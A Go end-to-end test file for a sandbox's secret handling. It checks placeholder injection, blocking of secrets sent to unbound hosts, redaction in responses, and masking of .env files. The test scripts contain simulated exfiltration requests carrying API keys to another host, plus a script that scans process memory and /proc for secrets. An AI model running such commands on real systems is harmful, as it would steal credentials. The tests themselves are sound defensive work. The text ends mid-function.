package tests

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"
)

// End-to-end tests of secret handling: secrets reach
// the jail as placeholders, the proxy injects the real value only toward
// the hosts bound to it, refuses a placeholder headed anywhere else,
// redacts real values in responses, and .env files are masked in place.

// secretsAPI answers the paths the secrets tests use on both echo
// servers:
//
//	/leak        echoes the x-api-key it received in the body and in X-Echo-Key
//	/leak-big    the same, 200 KB of text with the key across buffer boundaries
//	/leak-gzip   the same, gzip-encoded
//	/leak-known  answers with the real MY_API_KEY the server knows on its own
//	/app/...     200 {"status":"authorized"} only for x-api-key = the real MY_API_KEY, else 401
func secretsAPI(g *secretsRig) func(w http.ResponseWriter, r *http.Request, body []byte) bool {
	return func(w http.ResponseWriter, r *http.Request, body []byte) bool {
		key := r.Header.Get("x-api-key")
		switch {
		case r.URL.Path == "/leak":
			w.Header().Set("X-Echo-Key", key)
			fmt.Fprintf(w, "your key is %s\n", key)
		case r.URL.Path == "/leak-big":
			w.Header().Set("Content-Type", "text/plain")
			w.Write(bigLeak(key))
		case r.URL.Path == "/leak-gzip":
			var zb bytes.Buffer
			zw := gzip.NewWriter(&zb)
			fmt.Fprintf(zw, "your key is %s\n", key)
			zw.Close()
			w.Header().Set("Content-Type", "text/plain")
			w.Header().Set("Content-Encoding", "gzip")
			w.Write(zb.Bytes())
		case r.URL.Path == "/leak-known":
			real := g.Real["MY_API_KEY"]
			w.Header().Set("X-Known-Key", real)
			fmt.Fprintf(w, "the server knows %s\n", real)
		case strings.HasPrefix(r.URL.Path, "/app/"):
			w.Header().Set("Content-Type", "application/json")
			if key == "" || key != g.Real["MY_API_KEY"] {
				w.WriteHeader(http.StatusUnauthorized)
				fmt.Fprintln(w, `{"status":"unauthorized"}`)
				return true
			}
			fmt.Fprintln(w, `{"status":"authorized"}`)
		default:
			return false
		}
		return true
	}
}

// bigLeakOffsets are where /leak-big puts the key: across the boundaries
// of the buffers a streaming proxy is likely to use.
var bigLeakOffsets = []int{100, 4096 - 7, 16384 - 3, 32768 - 11, 65536 - 1, 131072 - 20, 199000}

// bigLeak is 200 KB of text with key at bigLeakOffsets.
func bigLeak(key string) []byte {
	b := []byte(strings.Repeat("lorem ipsum dolor sit amet\n", 200*1024/27+1))[:200*1024]
	for _, off := range bigLeakOffsets {
		copy(b[off:], key)
	}
	return b
}

// 1. Every view of the environment inside the jail, the .env files, ps
// and every readable file and process memory under /proc hold
// placeholders, never a real value; placeholders are random per session;
// bubblewrap and every other process on the host but jail itself never
// hold a real value either.
func TestSecretsNeverInside(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		// DB_PASSWORD is only in a nested .env.production.
		g := setupSecrets(t, s, []string{"ANTHROPIC_API_KEY", "MY_API_KEY", "LONELY_TOKEN", "BOUND_VALUE", "SESSION_COOKIE"}, []string{"DB_PASSWORD"}, nil)
		plain := "visible-setting-" + uniq()
		s.Env = append(s.Env, "PLAIN_SETTING="+plain)
		s.WriteFile(s.Project+"/.env", "# app settings\nMY_API_KEY="+g.Real["MY_API_KEY"]+"\nPLAIN=hello\n", 0o644)
		s.WriteFile(s.Project+"/config/.env.production", "DB_PASSWORD="+g.Real["DB_PASSWORD"]+"\nDEBUG=false\n", 0o644)
		s.WriteFile(s.Project+"/control.txt", "the control value "+plain+" is findable\n", 0o644)
		s.WriteFile(s.Project+"/memscan.py", memscanPy, 0o644)

		var realRev, ctlRev []string
		for _, v := range g.reals() {
			realRev = append(realRev, shq(reverse(v)))
		}
		ctlRev = append(ctlRev, shq(reverse(plain)))
		script := `
			echo "==env"; env
			echo "==self-environ"; tr '\0' '\n' < /proc/self/environ
			echo "==init-environ"; tr '\0' '\n' < /proc/1/environ 2>&1
			echo "==init-cmdline"; tr '\0' ' ' < /proc/1/cmdline 2>&1; echo
			echo "==dotenv"; cat .env
			echo "==dotenv-nested"; cat config/.env.production
			echo "==ps"; ps auxeww
			echo "==grep"
			# The real values, reversed in this script so that no command
			# line holds them, decoded into the private /tmp, which is not
			# searched.
			printf '%s\n' ` + strings.Join(realRev, " ") + ` | rev > /tmp/real.pat
			printf '%s\n' ` + strings.Join(ctlRev, " ") + ` | rev > /tmp/control.pat
			echo "patterns=$(grep -c . /tmp/real.pat)"
			G="grep -rlsF -D skip --exclude=kcore --exclude=kmsg --exclude=pagemap --exclude=mem --exclude=kpagecount --exclude=kpageflags --exclude=kpagecgroup --exclude=clear_refs"
			timeout 120 $G -f /tmp/real.pat /proc "$PWD" > /tmp/real.out; echo "real-exit=$?"
			sed 's/^/real: /' /tmp/real.out
			timeout 120 $G -f /tmp/control.pat /proc "$PWD" > /tmp/control.out; echo "control-exit=$?"
			sed 's/^/control: /' /tmp/control.out
			echo "==memscan"
			timeout 120 python3 memscan.py /tmp/real.pat /tmp/control.pat; echo "memscan-exit=$?"
			echo "==end"`
		r := s.Jail("--secret", "SESSION_COOKIE", "--", "sh", "-c", script)
		if r.Code != 0 {
			t.Fatalf("the inspection script failed:\n%s", r)
		}
		g.noReal(t, "the jail's output (env, /proc, .env, ps, grep, memory scan)", r.Stdout+r.Stderr)

		secretNames := []string{"ANTHROPIC_API_KEY", "MY_API_KEY", "LONELY_TOKEN", "BOUND_VALUE", "SESSION_COOKIE"}
		for _, view := range []string{"env", "self-environ"} {
			env := envMap(section(r.Stdout, view))
			for _, name := range secretNames {
				if !placeholderRE(name).MatchString(env[name]) {
					t.Errorf("%s inside: %s=%q, want a placeholder jail-secret-%s-<random>", view, name, env[name], name)
				}
			}
			if env["PLAIN_SETTING"] != plain {
				t.Errorf("control: %s inside: PLAIN_SETTING=%q, want %q unchanged", view, env["PLAIN_SETTING"], plain)
			}
		}
		placeholders := envMap(section(r.Stdout, "env"))
		if a, b := placeholders["MY_API_KEY"], placeholders["LONELY_TOKEN"]; a != "" && a == b {
			t.Errorf("two secrets share the placeholder %q", a)
		}

		// .env files: the secret value is a placeholder, every other line is
		// as written.
		dotenv := lines(section(r.Stdout, "dotenv"))
		if len(dotenv) != 3 || dotenv[0] != "# app settings" || dotenv[2] != "PLAIN=hello" ||
			!strings.HasPrefix(dotenv[1], "MY_API_KEY="+placeholderPrefix+"MY_API_KEY-") {
			t.Errorf("cat .env inside: want the comment, MY_API_KEY=jail-secret-MY_API_KEY-… and PLAIN=hello unchanged; got %q", dotenv)
		}
		nested := lines(section(r.Stdout, "dotenv-nested"))
		if len(nested) != 2 || !strings.HasPrefix(nested[0], "DB_PASSWORD="+placeholderPrefix+"DB_PASSWORD-") || nested[1] != "DEBUG=false" {
			t.Errorf("cat config/.env.production inside (default secrets.files: .env.* anywhere in the project): want DB_PASSWORD=jail-secret-DB_PASSWORD-… and DEBUG=false; got %q", nested)
		}
		if ps := section(r.Stdout, "ps"); !strings.Contains(ps, "MY_API_KEY="+placeholders["MY_API_KEY"]) {
			t.Errorf("control: ps auxeww inside does not show the environment (no MY_API_KEY=%s):\n%s", placeholders["MY_API_KEY"], ps)
		}

		// grep: the real values are nowhere; the control value, searched
		// the same way, is found in the environ files and the project.
		grep := section(r.Stdout, "grep")
		kv := envMap(grep)
		if kv["patterns"] != strconv.Itoa(len(g.Real)) {
			t.Errorf("the pattern file holds %s patterns, want %d:\n%s", kv["patterns"], len(g.Real), grep)
		}
		var found, control []string
		for _, l := range lines(grep) {
			if f, ok := strings.CutPrefix(l, "real: "); ok {
				found = append(found, f)
			}
			if f, ok := strings.CutPrefix(l, "control: "); ok {
				control = append(control, f)
			}
		}
		if len(found) > 0 || kv["real-exit"] != "1" && kv["real-exit"] != "2" {
			t.Errorf("grep for the real values inside /proc and the project: want nothing found (exit 1, or 2 for unreadable files), got exit %s in %v", kv["real-exit"], found)
		}
		if kv["real-exit"] == "124" || kv["control-exit"] == "124" {
			t.Errorf("grep over /proc timed out:\n%s", grep)
		}
		var ctlEnviron, ctlProject bool
		for _, f := range control {
			ctlEnviron = ctlEnviron || strings.HasSuffix(f, "/environ")
			ctlProject = ctlProject || f == s.Project+"/control.txt"
		}
		if !ctlEnviron || !ctlProject {
			t.Errorf("control: the same grep for a value that is there must find it in an environ file and in control.txt; found %v (exit %s)", control, kv["control-exit"])
		}

		// Process memory: no process inside holds a real value; the control
		// value is found in the shell's memory.
		mem := section(r.Stdout, "memscan")
		mkv := envMap(mem)
		if mkv["memscan-exit"] != "0" || !strings.Contains(mem, "memscan-control: ") {
			t.Errorf("control: the memory scan did not run or did not find the control value in any process:\n%s", mem)
		}
		if strings.Contains(mem, "memscan-real: ") {
			t.Errorf("a process inside the jail holds a real value in its memory:\n%s", mem)
		}
		if n, _ := strconv.Atoi(mkv["memscan-bytes"]); n == 0 {
			t.Errorf("the memory scan read nothing:\n%s", mem)
		}

		// Random per session.
		r2 := s.Sh(`echo "MY_API_KEY=$MY_API_KEY"`)
		if again := envMap(r2.Stdout)["MY_API_KEY"]; !placeholderRE("MY_API_KEY").MatchString(again) || again == placeholders["MY_API_KEY"] {
			t.Errorf("placeholders must be random per session: first %q, then %q", placeholders["MY_API_KEY"], again)
		}

		// On the host, while the jail runs: no process but jail itself
		// (bubblewrap, the init, the command) holds a real value in its
		// environment or command line.
		cmd := s.JailCmd("--secret", "SESSION_COOKIE", "--", "sh", "-c", "touch started; while [ ! -e stop ]; do sleep 0.05; done")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		done := make(chan struct{})
		go func() { cmd.Wait(); close(done) }()
		if !waitFor(15*time.Second, func() bool { _, err := os.Stat(s.Project + "/started"); return err == nil }) {
			cmd.Process.Kill()
			<-done
			t.Fatalf("the jailed command did not start")
		}
		var holders []string
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			if e.Name()[0] < '0' || e.Name()[0] > '9' || e.Name() == strconv.Itoa(cmd.Process.Pid) {
				continue
			}
			for _, f := range []string{"environ", "cmdline"} {
				b, err := os.ReadFile("/proc/" + e.Name() + "/" + f)
				if err != nil {
					continue
				}
				for name, v := range g.Real {
					if strings.Contains(string(b), v) {
						comm, _ := os.ReadFile("/proc/" + e.Name() + "/comm")
						holders = append(holders, fmt.Sprintf("pid %s (%s) %s holds %s", e.Name(), strings.TrimSpace(string(comm)), f, name))
					}
				}
			}
		}
		s.WriteFile(s.Project+"/stop", "", 0o644)
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			cmd.Process.Kill()
			<-done
		}
		if len(holders) > 0 {
			t.Errorf("real values outside the jail process on the host (bubblewrap's argv or environment must stay clean):\n  %s", strings.Join(holders, "\n  "))
		}
	})
}

// memscanPy reads every readable mapping of every other process through
// /proc/PID/mem and reports which hold a real value (patterns in argv[1])
// or the control value (argv[2]).
const memscanPy = `
import os, sys
def pats(p): return [l.encode() for l in open(p).read().split("\n") if l]
real, ctl = pats(sys.argv[1]), pats(sys.argv[2])
me, total, pids = os.getpid(), 0, 0
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == me:
        continue
    try:
        comm = open("/proc/%d/comm" % pid).read().strip()
        maps = open("/proc/%d/maps" % pid).read().splitlines()
        fd = os.open("/proc/%d/mem" % pid, os.O_RDONLY)
    except OSError as e:
        print("skip pid=%d: %s" % (pid, e))
        continue
    pids += 1
    for l in maps:
        f = l.split()
        if "r" not in f[1]:
            continue
        a, b = (int(x, 16) for x in f[0].split("-"))
        if b - a > 1 << 28:
            print("skip pid=%d region %s (too large)" % (pid, f[0]))
            continue
        try:
            data = os.pread(fd, b - a, a)
        except (OSError, OverflowError, ValueError):
            continue
        total += len(data)
        for i, p in enumerate(real):
            if p in data:
                print("memscan-real: pid=%d comm=%s region=%s %s pattern=%d" % (pid, comm, f[0], f[-1] if len(f) > 5 else "", i))
        for p in ctl:
            if p in data:
                print("memscan-control: pid=%d comm=%s" % (pid, comm))
    os.close(fd)
print("memscan-bytes=%d" % total)
print("memscan-pids=%d" % pids)
`

// 2. curl, python3 and node send the placeholder to the bound host in
// Authorization: Bearer, x-api-key, the query string and a JSON body: the
// server receives the real value, never the placeholder.
func TestSecretsInjectedTowardBoundHost(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		g := setupSecrets(t, s, []string{"MY_API_KEY", "BOUND_VALUE"}, nil, nil)
		b := "https://" + boundHost
		r := s.Sh(probeSh + `
			echo session=$JAIL_SESSION
			probe curl-bearer -H "Authorization: Bearer $MY_API_KEY" ` + b + `/curl-bearer
			probe curl-xapikey -H "x-api-key: $MY_API_KEY" ` + b + `/curl-xapikey
			probe curl-query "` + b + `/curl-query?key=$MY_API_KEY"
			probe curl-body -H 'Content-Type: application/json' -d "{\"key\":\"$MY_API_KEY\"}" ` + b + `/curl-body
			probe curl-custom-header -H "X-Goog-Api-Key: $MY_API_KEY" ` + b + `/curl-custom-header
			probe socks-bearer --socks5-hostname 127.0.0.1:1080 -H "Authorization: Bearer $MY_API_KEY" ` + b + `/socks-bearer
			probe curl-bound-value -H "Authorization: Bearer $BOUND_VALUE" ` + b + `/curl-bound-value
			python3 secreq.py py-all all ` + b + `/py-all MY_API_KEY
			python3 secreq.py py-body body ` + b + `/py-body MY_API_KEY
			node secreq.js node-all all ` + b + `/node-all MY_API_KEY
			node secreq.js node-body body ` + b + `/node-body MY_API_KEY`)
		g.noReal(t, "the jail's output", r.Stdout+r.Stderr)
		ps := probes(t, r)
		real := g.Real["MY_API_KEY"]
		type want struct{ bearer, xapikey, query, body, custom bool }
		for _, c := range []struct {
			name string
			want want
		}{
			{"curl-bearer", want{bearer: true}}, {"curl-xapikey", want{xapikey: true}},
			{"curl-query", want{query: true}}, {"curl-body", want{body: true}},
			{"curl-custom-header", want{custom: true}}, {"socks-bearer", want{bearer: true}},
			{"py-all", want{bearer: true, xapikey: true, query: true}}, {"py-body", want{body: true}},
			{"node-all", want{bearer: true, xapikey: true, query: true}}, {"node-body", want{body: true}},
		} {
			p := getProbe(t, ps, r, c.name)
			if p.HTTP != "200" || p.Body != "ok /"+c.name {
				t.Errorf("%s: want 200 %q from the bound server; got %s", c.name, "ok /"+c.name, p)
			}
			got := g.Bound.At("/" + c.name)
			if len(got) != 1 {
				t.Errorf("%s: the bound server received %d requests at /%s, want 1:\n%s", c.name, len(got), c.name, g.Bound.dump())
				continue
			}
			req := got[0]
			if c.want.bearer && req.Header.Get("Authorization") != "Bearer "+real {
				t.Errorf("%s: the server received Authorization %q, want Bearer and the real value", c.name, req.Header.Get("Authorization"))
			}
			if c.want.xapikey && req.Header.Get("X-Api-Key") != real {
				t.Errorf("%s: the server received x-api-key %q, want the real value", c.name, req.Header.Get("X-Api-Key"))
			}
			if c.want.custom && req.Header.Get("X-Goog-Api-Key") != real {
				t.Errorf("%s: the server received X-Goog-Api-Key %q, want the real value", c.name, req.Header.Get("X-Goog-Api-Key"))
			}
			if q, _ := url.ParseQuery(req.Query); c.want.query && q.Get("key") != real {
				t.Errorf("%s: the server received the query %q, want key=<the real value>", c.name, req.Query)
			}
			if c.want.body {
				var j struct{ Key string }
				if err := json.Unmarshal([]byte(req.Body), &j); err != nil || j.Key != real {
					t.Errorf("%s: the server received the body %q, want JSON whose key is the real value", c.name, req.Body)
				}
			}
		}
		// A name that does not look secret but is bound in secrets.env.
		if p := getProbe(t, ps, r, "curl-bound-value"); p.HTTP != "200" {
			t.Errorf("curl-bound-value: want 200; got %s", p)
		}
		if got := g.Bound.At("/curl-bound-value"); len(got) != 1 || got[0].Header.Get("Authorization") != "Bearer "+g.Real["BOUND_VALUE"] {
			t.Errorf("BOUND_VALUE (named in secrets.env) was not injected toward its bound host:\n%s", g.Bound.dump())
		}
		if leaked := g.Bound.Containing(placeholderPrefix); len(leaked) > 0 {
			t.Errorf("the bound server received placeholders (not replaced by the proxy):\n%v", leaked)
		}
		ds := decisions(t, s, sessionOf(t, r))
		for _, name := range []string{"curl-bearer", "py-all", "node-body"} {
			if d := secretDecisions(ds, boundHost, "/"+name); len(d) == 0 || d[0].Verdict != "allow" {
				t.Errorf("jail log has no allowed entry for %s/%s:\n%s", boundHost, name, dumpDecisions(ds))
			}
		}
		hostLogHasNoReal(t, s, g)
	})
}

// 3. The same placeholder toward an allowed host it is not bound to — in
// a header, a query string, a JSON body — and a placeholder with no
// binding at all toward any host: 403, logged as an exfiltration attempt,
// and the server sees nothing.
func TestSecretsExfiltrationRefused(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		g := setupSecrets(t, s, []string{"MY_API_KEY", "ANTHROPIC_API_KEY", "LONELY_TOKEN"}, nil, nil)
		o, b := "https://"+otherHost, "https://"+boundHost
		r := s.Sh(probeSh + `
			echo session=$JAIL_SESSION
			probe other-control ` + o + `/other-control
			probe exfil-header -H "Authorization: Bearer $MY_API_KEY" ` + o + `/exfil-header
			probe exfil-xapikey -H "x-api-key: $MY_API_KEY" ` + o + `/exfil-xapikey
			probe exfil-query "` + o + `/exfil-query?key=$MY_API_KEY"
			probe exfil-body -H 'Content-Type: application/json' -d "{\"data\":\"$MY_API_KEY\"}" ` + o + `/exfil-body
			python3 secreq.py exfil-py-body body ` + o + `/exfil-py-body MY_API_KEY
			python3 secreq.py exfil-py-query query ` + o + `/exfil-py-query MY_API_KEY
			node secreq.js exfil-node-header header ` + o + `/exfil-node-header MY_API_KEY
			node secreq.js exfil-node-body body ` + o + `/exfil-node-body MY_API_KEY
			probe exfil-socks --socks5-hostname 127.0.0.1:1080 -H "x-api-key: $MY_API_KEY" ` + o + `/exfil-socks
			probe exfil-anthropic-to-bound -H "x-api-key: $ANTHROPIC_API_KEY" ` + b + `/exfil-anthropic-to-bound
			probe exfil-lonely -H "Authorization: Bearer $LONELY_TOKEN" ` + b + `/exfil-lonely
			probe exfil-lonely-other "` + o + `/exfil-lonely-other?token=$LONELY_TOKEN"`)
		g.noReal(t, "the jail's output", r.Stdout+r.Stderr)
		ps := probes(t, r)
		if p := getProbe(t, ps, r, "other-control"); p.HTTP != "200" || p.Body != "ok /other-control" {
			t.Fatalf("control: %s is allowed and reachable without a placeholder; got %s", otherHost, p)
		}
		attempts := map[string]string{
			"exfil-header": otherHost, "exfil-xapikey": otherHost, "exfil-query": otherHost, "exfil-body": otherHost,
			"exfil-py-body": otherHost, "exfil-py-query": otherHost, "exfil-node-header": otherHost, "exfil-node-body": otherHost,
			"exfil-socks": otherHost, "exfil-anthropic-to-bound": boundHost, "exfil-lonely": boundHost, "exfil-lonely-other": otherHost,
		}
		for name := range attempts {
			if p := getProbe(t, ps, r, name); p.HTTP != "403" || !strings.HasPrefix(p.Body, "jail:") {
				t.Errorf("%s: want 403 from the proxy with a body starting \"jail:\"; got %s", name, p)
			}
		}
		for _, srv := range []*echoServer{g.Other, g.Bound} {
			for _, req := range srv.Requests() {
				if strings.HasPrefix(req.Path, "/exfil") {
					t.Errorf("a request carrying a placeholder toward a host it is not bound to reached the server: %s", req)
				}
			}
			for _, v := range append(g.reals(), placeholderPrefix) {
				if got := srv.Containing(v); len(got) > 0 {
					t.Errorf("the server received a secret or a placeholder: %v", got)
				}
			}
		}
		ds := decisions(t, s, sessionOf(t, r))
		for name, host := range attempts {
			found := secretDecisions(ds, host, "/"+name)
			if len(found) != 1 {
				t.Errorf("jail log has %d entries for %s/%s, want 1:\n%s", len(found), host, name, dumpDecisions(ds))
				continue
			}
			if d := found[0]; d.Verdict != "deny" || !strings.HasPrefix(d.Reason, "exfiltration attempt") {
				t.Errorf("log entry for %s/%s: want verdict deny with a reason starting \"exfiltration attempt\"; got %s", host, name, d)
			}
		}
		// The secret with no binding: the refusal says which binding to add.
		lonely := getProbe(t, ps, r, "exfil-lonely")
		hint := lonely.Body
		for _, d := range secretDecisions(ds, boundHost, "/exfil-lonely") {
			hint += " " + d.Reason
		}
		if !namesBinding(hint, "LONELY_TOKEN") {
			t.Errorf("a secret with no binding: the 403 body or the log must name the secrets.env binding to add for LONELY_TOKEN; got body %q and log %q", lonely.Body, hint)
		}
		hostLogHasNoReal(t, s, g)
	})
}

// 4. An upstream that echoes the real secret in its response (body and
// header), or sends it on its own: the jail sees the placeholder.
func TestSecretsRedactedInResponses(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		g := setupSecrets(t, s, []string{"MY_API_KEY"}, nil, nil)
		b, o := "https://"+boundHost, "https://"+otherHost
		r := s.Sh(`
			curl -sS --max-time 15 -D /tmp/h -o /tmp/b -H "x-api-key: $MY_API_KEY" ` + b + `/leak; echo "##curl-exit=$?"
			echo "==headers"; tr -d '\r' < /tmp/h; echo "==body"; cat /tmp/b
			echo "==big"
			curl -sS --max-time 15 -o /tmp/big -H "x-api-key: $MY_API_KEY" ` + b + `/leak-big; echo "##big-exit=$?"
			echo "##big-placeholders=$(grep -oF "$MY_API_KEY" /tmp/big | wc -l)"
			echo "##big-size=$(wc -c < /tmp/big)"
			echo "==gzip"
			curl -sS --max-time 15 --compressed -H "x-api-key: $MY_API_KEY" ` + b + `/leak-gzip; echo "##gzip-exit=$?"
			echo "==known"
			curl -sS --max-time 15 -D - ` + o + `/leak-known | tr -d '\r'
			echo "==python"
			python3 secreq.py py-leak all ` + b + `/leak MY_API_KEY
			echo "==end"`)
		g.noReal(t, "what the jail received", r.Stdout+r.Stderr)
		real, ph := g.Real["MY_API_KEY"], ""
		// Control: the server did send the real value back.
		if got := g.Bound.At("/leak"); len(got) == 0 || got[0].Header.Get("X-Api-Key") != real {
			t.Fatalf("control: the echo server did not receive the real key, so it could not echo it:\n%s\n%s", g.Bound.dump(), r)
		}
		body := strings.TrimSpace(section(r.Stdout, "body"))
		ph, _ = strings.CutPrefix(body, "your key is ")
		if !placeholderRE("MY_API_KEY").MatchString(ph) {
			t.Errorf("the echoed key in the response body: want the placeholder, got %q", body)
		}
		// Names compared in any case: over HTTP/2 they come lower-case.
		if h := section(r.Stdout, "headers"); !strings.Contains(strings.ToLower(h), strings.ToLower("X-Echo-Key: "+ph+"\n")) {
			t.Errorf("the echoed key in the response header: want X-Echo-Key: %s; got\n%s", ph, h)
		}
		kv := kvs(r)
		if kv["big-exit"] != "0" || kv["big-placeholders"] != strconv.Itoa(len(bigLeakOffsets)) {
			t.Errorf("a 200 KB response with the real key at %d places across buffer boundaries: want %d placeholders inside, got %s (curl exit %s, %s bytes)",
				len(bigLeakOffsets), len(bigLeakOffsets), kv["big-placeholders"], kv["big-exit"], kv["big-size"])
		}
		if gz := section(r.Stdout, "gzip"); !strings.Contains(gz, "your key is "+ph+"\n") {
			t.Errorf("a gzip-encoded response echoing the key: want the placeholder once decoded inside; got %q", gz)
		}
		known := section(r.Stdout, "known")
		if !strings.Contains(known, "the server knows "+ph) || !strings.Contains(strings.ToLower(known), strings.ToLower("X-Known-Key: "+ph)) {
			t.Errorf("a response from another host carrying the real value: want it redacted to %s in body and header; got\n%s", ph, known)
		}
		if p := getProbe(t, probes(t, r), r, "py-leak"); p.HTTP != "200" || p.Body != "your key is "+ph {
			t.Errorf("python: want the echoed key redacted to the placeholder; got %s", p)
		}
	})
}

// 5. A Python application reads its .env by hand and calls its bound API:
// it works end to end (the server gets the real key, which is in no
// environment variable), `cat .env` shows the placeholder, the file cannot
// be written, and the host's .env is byte-identical afterwards.
func TestSecretsDotenvApp(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		// MY_API_KEY is in .env only, in no environment variable.
		g := setupSecrets(t, s, nil, []string{"MY_API_KEY", "DB_PASSWORD"}, nil)
		dotenv := "# local settings\nAPI_BASE=https://" + boundHost + "\nMY_API_KEY=" + g.Real["MY_API_KEY"] + "\n\nPLAIN=hello\n"
		nested := "DB_PASSWORD=" + g.Real["DB_PASSWORD"] + "\nDEBUG=false\n"
		s.WriteFile(s.Project+"/.env", dotenv, 0o600)
		s.WriteFile(s.Project+"/service/.env.local", nested, 0o600)
		s.WriteFile(s.Project+"/app.py", dotenvAppPy, 0o644)
		old := time.Now().Add(-time.Hour).Truncate(time.Second)
		for _, p := range []string{s.Project + "/.env", s.Project + "/service/.env.local"} {
			os.Chtimes(p, old, old)
		}
		stat := func(p string) os.FileInfo {
			fi, err := os.Stat(p)
			if err != nil {
				t.Fatal(err)
			}
			return fi
		}
		before, beforeNested := stat(s.Project+"/.env"), stat(s.Project+"/service/.env.local")

		r := s.Sh(probeSh + `
			echo "==dotenv"; cat .env
			echo "==nested"; cat service/.env.local
			echo "==app"; python3 app.py
			echo "==write"
			(echo 'MY_API_KEY=overwritten' >> .env) 2>/dev/null; echo "##append=$?"
			(printf 'X=1\n' > service/.env.local) 2>/dev/null; echo "##truncate=$?"
			echo "==exfil"
			probe exfil-dotenv -H "x-api-key: $(sed -n 's/^MY_API_KEY=//p' .env)" https://` + otherHost + `/exfil-dotenv
			echo "==end"`)
		g.noReal(t, "the jail's output", r.Stdout+r.Stderr)
		app := strings.TrimSpace(section(r.Stdout, "app"))
		if app != `200 {"status":"authorized"}` {
			t.Errorf("the app reading its .env: want `200 {\"status\":\"authorized\"}` from its bound API; got %q\n%s\nserver:\n%s", app, r, g.Bound.dump())
		}
		if got := g.Bound.At("/app/v1/things"); len(got) != 1 || got[0].Header.Get("X-Api-Key") != g.Real["MY_API_KEY"] {
			t.Errorf("the bound server did not receive the real key from .env:\n%s", g.Bound.dump())
		}
		inside := section(r.Stdout, "dotenv")
		ls := strings.Split(inside, "\n")
		if len(ls) < 5 || ls[0] != "# local settings" || ls[1] != "API_BASE=https://"+boundHost || ls[3] != "" || ls[4] != "PLAIN=hello" ||
			!strings.HasPrefix(ls[2], "MY_API_KEY=") || !placeholderRE("MY_API_KEY").MatchString(strings.Trim(strings.TrimPrefix(ls[2], "MY_API_KEY="), `"'`)) {
			t.Errorf("cat .env inside: want the same lines with MY_API_KEY's value a placeholder; got\n%s", inside)
		}
		if n := section(r.Stdout, "nested"); !strings.HasPrefix(n, "DB_PASSWORD="+placeholderPrefix+"DB_PASSWORD-") || !strings.HasSuffix(n, "\nDEBUG=false\n") {
			t.Errorf("cat service/.env.local inside: want DB_PASSWORD masked and DEBUG=false as written; got %q", n)
		}
		kv := kvs(r)
		if kv["append"] == "0" || kv["truncate"] == "0" {
			t.Errorf("the masked .env files must be read-only inside: append exit %s, truncate exit %s", kv["append"], kv["truncate"])
		}
		if p := getProbe(t, probes(t, r), r, "exfil-dotenv"); p.HTTP != "403" {
			t.Errorf("the .env placeholder toward a host it is not bound to: want 403; got %s", p)
		}
		if got := g.Other.Requests(); len(got) > 0 {
			t.Errorf("the unbound server received requests: %v", got)
		}
		hostUnchanged(t, s.Project+"/.env", dotenv)
		hostUnchanged(t, s.Project+"/service/.env.local", nested)
		after, afterNested := stat(s.Project+"/.env"), stat(s.Project+"/service/.env.local")
		if !after.ModTime().Equal(before.ModTime()) || !afterNested.ModTime().Equal(beforeNested.ModTime()) {
			t.Errorf("the host's .env files were modified (mtime %v -> %v, %v -> %v)", before.ModTime(), after.ModTime(), beforeNested.ModTime(), afterNested.ModTime())
		}
		if after.Mode() != before.Mode() || statUID(after) != statUID(before) {
			t.Errorf("the host's .env changed mode or owner: %v uid %d -> %v uid %d", before.Mode(), statUID(before), after.Mode(), statUID(after))
		}
		// Nothing the jail left in the project holds a real value.
		var leftovers []string
		entries, _ := os.ReadDir(s.Project)
		for _, e := range entries {
			if e.Type().IsRegular() && e.Name() != ".env" {
				if b, _ := os.ReadFile(s.Project + "/" + e.Name()); strings.Contains(string(b), g.Real["MY_API_KEY"]) {
					leftovers = append(leftovers, e.Name())
				}
			}
		}
		if len(leftovers) > 0 {
			t.Errorf("files in the project hold the real value: %v", leftovers)
		}
		hostLogHasNoReal(t, s, g)
	})
}

// dotenvAppPy is an application that reads its .env by hand (no dotenv
// package) and calls its API with the key.
const dotenvAppPy = `
import urllib.error, urllib.request
conf = {}
with open(".env") as f:
    for line in f:
        line = line.strip()
        if not line or line.startswith("#") or "=" not in line:
            continue
        k, v = line.split("=", 1)
        conf[k.strip()] = v.strip().strip("\"'")
req = urllib.request.Request(conf["API_BASE"] + "/app/v1/things", headers={"x-api-key": conf["MY_API_KEY"], "Accept": "application/json"})
try:
    r = urllib.request.urlopen(req, timeout=15)
    print(r.status, r.read().decode().strip())
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode().strip())
`

// 7. jail plan lists the placeholder variables and masked files and where
// each may be injected, by name, never by value.
func TestSecretsPlan(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		g := setupSecrets(t, s, []string{"ANTHROPIC_API_KEY", "MY_API_KEY", "LONELY_TOKEN", "GITHUB_TOKEN"}, []string{"FILE_TOKEN"}, nil)
		s.WriteFile(s.Project+"/.env", "FILE_TOKEN="+g.Real["FILE_TOKEN"]+"\n", 0o644)
		r := s.Jail("plan", "--", "true")
		if r.Code != 0 {
			t.Fatalf("jail plan failed:\n%s", r)
		}
		g.noReal(t, "jail plan", r.Stdout+r.Stderr)
		line := func(name string) string {
			for _, l := range lines(r.Stdout) {
				if strings.Contains(l, name) && strings.Contains(l, "->") {
					return l
				}
			}
			for _, l := range lines(r.Stdout) {
				if strings.Contains(l, name) && !strings.Contains(l, "placeholders:") {
					return l
				}
			}
			return ""
		}
		for name, hosts := range map[string][]string{
			"ANTHROPIC_API_KEY": {"api.anthropic.com"},
			"MY_API_KEY":        {boundHost},
			"GITHUB_TOKEN":      {"api.github.com", "github.com"},
		} {
			l := line(name)
			for _, h := range hosts {
				if !strings.Contains(l, h) {
					t.Errorf("jail plan: the line for %s must name %s; got %q\n%s", name, h, l, r.Stdout)
				}
			}
		}
